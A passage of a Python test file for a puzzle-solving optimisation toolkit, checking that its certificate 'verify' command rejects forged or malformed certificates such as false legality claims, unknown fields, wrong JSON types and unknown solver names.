        (dict(real, reason="forged"), "gives reason 'forged'"),
        (dict(real, simulator="nobody"), "names simulator 'nobody'"),
    ):
        assert main(["verify", _forge(tmp_path, cert, verified=verified)]) == 1, verified
        assert says in capsys.readouterr().err, verified
    assert main(["verify", str(tmp_path / "c.json")]) == 0
    capsys.readouterr()
    code, _, cert = _solve(capsys, tmp_path, "instances/queens/unsolvable_n8_k1_q20_s1.txt")
    assert code == 2 and cert["solution"] is None and not cert["verified"]["legal"]
    for verified in (dict(cert["verified"], legal=True), dict(cert["verified"], objective=12345)):
        assert main(["verify", _forge(tmp_path, cert, verified=verified)]) == 1, verified
        assert "reports a replay, but the certificate carries no solution" in capsys.readouterr().err
    assert main(["verify", str(tmp_path / "c.json")]) == 0


def _rejected(capsys, tmp_path, cert, **fields) -> str:
    """``verify``'s message on the certificate with ``fields`` replaced (which it must reject)."""
    path = tmp_path / "forged.json"
    path.write_text(json.dumps(dict(cert, **fields)))
    assert main(["verify", str(path)]) == 1
    return capsys.readouterr().err


def test_a_status_no_report_of_the_recorded_kind_leads_to_is_rejected(capsys, tmp_path):
    """The claim rule never turns a report of emptiness into a solution: optimal beside a solver's "infeasible"
    was accepted, as the solution replays."""
    code, _, cert = _solve(capsys, tmp_path, "instances/merge_game/choice.txt", "--solver", "highs")
    assert code == 0 and cert["status"] == "optimal"
    err = _rejected(capsys, tmp_path, cert, reported_status="infeasible")
    assert "cannot come of the solver's reported infeasible" in err


def test_fields_the_schema_does_not_name_are_rejected(capsys, tmp_path):
    code, _, cert = _solve(capsys, tmp_path, "instances/queens/spec_example.txt")
    assert code == 0
    assert "proof_of_optimality" in _rejected(capsys, tmp_path, cert, proof_of_optimality="trust me")
    verified = dict(cert["verified"], checked_by="an auditor")
    assert "checked_by" in _rejected(capsys, tmp_path, cert, verified=verified)


def test_a_measurement_recorded_as_another_json_type_is_rejected(capsys, tmp_path):
    """true == 1 in Python: a recorded "remaining": true passed for the replay's 1."""
    code, _, cert = _solve(capsys, tmp_path, "instances/queens/spec_example.txt")
    assert code == 0 and cert["verified"]["measured"]["remaining"] == 1
    measured = dict(cert["verified"]["measured"], remaining=True)
    err = _rejected(capsys, tmp_path, cert, verified=dict(cert["verified"], measured=measured))
    assert "measurements (measured) are not the replay's" in err


def test_a_solver_or_formulation_the_toolkit_lacks_is_rejected(capsys, tmp_path):
    """The rerun command must run: an unknown name, rerun included, was accepted."""
    code, _, cert = _solve(capsys, tmp_path, "instances/merge_game/choice.txt", "--solver", "highs")
    assert code == 0 and cert["formulation"]
    for field, name in (("solver", "nosuchsolver"), ("formulation", "nosuchmodel")):
        rerun = cert["rerun"].replace(f"--{field} {cert[field]}", f"--{field} {name}")
        assert name in rerun
        assert f"unknown {field} {name!r}" in _rejected(capsys, tmp_path, cert, **{field: name, "rerun": rerun})


def test_an_instance_path_whose_bytes_are_no_instance_is_rejected(capsys, tmp_path):
    """The path holds the very bytes solved (their hash matches), so they must read as the embedded instance;
    a read error was taken as "no longer an instance" and the certificate accepted."""
    import hashlib

    code, _, cert = _solve(capsys, tmp_path, "instances/merge_game/choice.txt", "--solver", "highs")
    assert code == 0
    garbage = tmp_path / "garbage_map.txt"
    garbage.write_text("not a merge map at all\n")
    rerun = cert["rerun"].replace(cert["instance_path"], str(garbage))
    text_sha = hashlib.sha256(garbage.read_bytes()).hexdigest()
    fields = {"instance_path": str(garbage), "rerun": rerun, "instance_text_sha256": text_sha}
    assert "are no merge-game instance" in _rejected(capsys, tmp_path, cert, **fields)


def test_keys_an_embedded_instance_or_solution_never_has_are_rejected(capsys, tmp_path):
    """An ignored key gave one puzzle several hashes (edge matching) and let a solution carry anything (merge
    game's object form)."""
    from mipgames.core.certificate import sha256

    code, _, cert = _solve(capsys, tmp_path, "instances/edge_matching/coursework_4x4.txt", "--threads", "1")
    assert code in (0, 2)
    instance = dict(cert["instance"], colours_checked_by="nobody")
    err = _rejected(
        capsys, tmp_path, cert, instance=instance, instance_sha256=sha256(instance), instance_text_sha256=None
    )
    assert "unknown key(s)" in err and "colours_checked_by" in err
    code, _, cert = _solve(capsys, tmp_path, "instances/merge_game/choice.txt", "--solver", "highs")
    solution = {"merges": cert["solution"], "note": "anything"}
    assert "unknown key(s) in a merge-game solution" in _rejected(capsys, tmp_path, cert, solution=solution)
